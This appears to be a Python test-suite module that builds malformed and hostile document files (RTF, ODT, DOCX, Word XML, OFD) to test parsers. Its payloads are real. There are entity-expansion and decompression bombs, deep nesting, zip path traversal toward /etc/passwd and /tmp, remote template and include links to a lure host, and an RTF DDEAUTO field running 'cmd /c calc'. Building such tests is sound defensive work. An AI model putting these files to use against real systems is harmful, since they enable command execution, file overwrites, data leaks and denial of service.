"""Word files, Rich Text, OpenDocument texts and OFD that lie, loop or swell."""

from random import Random

from benchmarks.kinds.draft import Draft, truth, variant
from benchmarks.kinds.drawn import draw
from benchmarks.kinds.makers.containers import zipped
from benchmarks.kinds.makers.holding import CHUNK, holding
from benchmarks.kinds.makers.hostile import LAUGHS, LURE, hostile, parts, replaced, swelling
from benchmarks.kinds.makers.odt import odt
from benchmarks.kinds.makers.rtf import rtf
from benchmarks.kinds.makers.word import changed
from benchmarks.kinds.makers.xlsx import of_tables
from benchmarks.sites.docx import docx


@hostile("rtf", "rtf")
def hostile_braces(_: Random) -> bytes:
    return b"{\\rtf1 " + b"{" * 300_000 + b"1" + b"}" * 300_000 + b"}"


@hostile("rtf", "rtf")
def hostile_binary_that_lies(_: Random) -> bytes:
    return b"{\\rtf1\\ansi \\bin2147483647 abc{\\*\\objdata " + b"01" * 100_000 + b"}}"


@hostile("rtf", "rtf")
def hostile_cells(_: Random) -> bytes:
    return b"{\\rtf1\\ansi " + b"\\trowd\\cellx1" * 40_000 + b"\\intbl 1\\cell" * 40_000 + b"\\row}"


@variant("rtf")
def hostile_links(dice: Random) -> Draft:
    """Asks for a template, a text and a picture of others."""
    drawn = of_tables(dice)
    more = (
        f'{{\\*\\template {LURE}t.dot}}{{\\field{{\\*\\fldinst INCLUDETEXT "{LURE}x"}}{{\\fldrslt }}}}'
        f'{{\\field{{\\*\\fldinst INCLUDEPICTURE "{LURE}x.png" \\\\d}}{{\\fldrslt }}}}'
        f'{{\\field{{\\*\\fldinst DDEAUTO cmd "/c calc"}}{{\\fldrslt }}}}'
    )
    return Draft(rtf(drawn, nested=more), "report.rtf", [truth(drawn)], hostile=True)


@variant("odt")
def hostile_linked_section(dice: Random) -> Draft:
    drawn = of_tables(dice)
    section = (
        f'<text:section xmlns:xlink="http://www.w3.org/1999/xlink" text:name="s"><text:section-source xlink:href="{LURE}a.odt"/>'
        "</text:section></office:text>"
    )
    body = odt(drawn)
    content = parts(body, "")["content.xml"].replace(b"</office:text>", section.encode())
    return Draft(replaced(body, "content.xml", content), "report.odt", [truth(drawn)], hostile=True)


@hostile("odt", "odt")
def hostile_entities_odt(dice: Random) -> bytes:
    body = odt(of_tables(dice))
    content = (
        parts(body, "")["content.xml"]
        .decode()
        .replace("?>", f"?>{LAUGHS}", 1)
        .replace("</text:h>", "&j;</text:h>")
    )
    return replaced(body, "content.xml", content.encode())


@hostile("odt", "odt")
def hostile_content_of_a_gigabyte(dice: Random) -> bytes:
    body = odt(of_tables(dice))
    content = parts(body, "")["content.xml"]
    head, tail = content.split(b"</text:h>", 1)
    return swelling(
        "content.xml", 1, head + b"</text:h>", tail, b"<text:p>1</text:p>", parts(body, "content.xml")
    )


@variant("docx")
def hostile_template_and_links(dice: Random) -> Draft:
    drawn = of_tables(dice)
    body = docx(drawn.title, drawn.markup())
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        f'Target="{LURE}t.dotm" TargetMode="External"/><Relationship Id="r2" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="{LURE}c.html" '
        'TargetMode="External"/></Relationships>'
    )
    return Draft(
        changed(body, parts={"word/_rels/document.xml.rels": relations.encode()}),
        "report.docx",
        [truth(drawn)],
        hostile=True,
    )


@hostile("docx", "docx")
def hostile_chunks_within_chunks(dice: Random) -> bytes:
    """A hundred Word files, each in the next."""
    drawn = draw(dice, "sheet")
    body = docx(drawn.title, "<p>一</p>")
    for _ in range(100):
        body = holding(drawn, CHUNK, "aFChunk", "part.docx", body, prose=False)
    return body


@hostile("word_xml", "xml")
def hostile_entities_word(_: Random) -> bytes:
    return (
        f'<?xml version="1.0"?>{LAUGHS}<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body><w:p>'
        "<w:r><w:t>&j;</w:t></w:r></w:p></w:body></w:wordDocument>"
    ).encode()


@hostile("ofd", "ofd")
def hostile_entities_ofd(_: Random) -> bytes:
    head = f'<?xml version="1.0"?>{LAUGHS}<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"><ofd:DocBody><ofd:DocRoot>&j;'
    return zipped({"OFD.xml": f"{head}</ofd:DocRoot></ofd:DocBody></ofd:OFD>".encode()})


@hostile("ofd", "ofd")
def hostile_paths_outside(_: Random) -> bytes:
    text = (
        '<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"><ofd:DocBody><ofd:DocRoot>../../../../etc/passwd</ofd:DocRoot>'
        "</ofd:DocBody></ofd:OFD>"
    )
    return zipped({"OFD.xml": text.encode(), "../../../../tmp/outside.txt": b"1"})


@hostile("ofd", "ofd")
def hostile_page_of_a_gigabyte(_: Random) -> bytes:
    names = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    parts = {
        "OFD.xml": f"<ofd:OFD {names}><ofd:DocBody><ofd:DocRoot>D/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>".encode(),
        "D/Document.xml": f'<ofd:Document {names}><ofd:Pages><ofd:Page ID="1" BaseLoc="P.xml"/></ofd:Pages></ofd:Document>'.encode(),
    }
    head = f'<ofd:Page {names}><ofd:Content><ofd:Layer ID="2">'.encode()
    one = b'<ofd:TextObject ID="3" Boundary="0 0 1 1"><ofd:TextCode X="0" Y="0">1</ofd:TextCode></ofd:TextObject>'
    return swelling("D/P.xml", 1, head, b"</ofd:Layer></ofd:Content></ofd:Page>", one, parts)
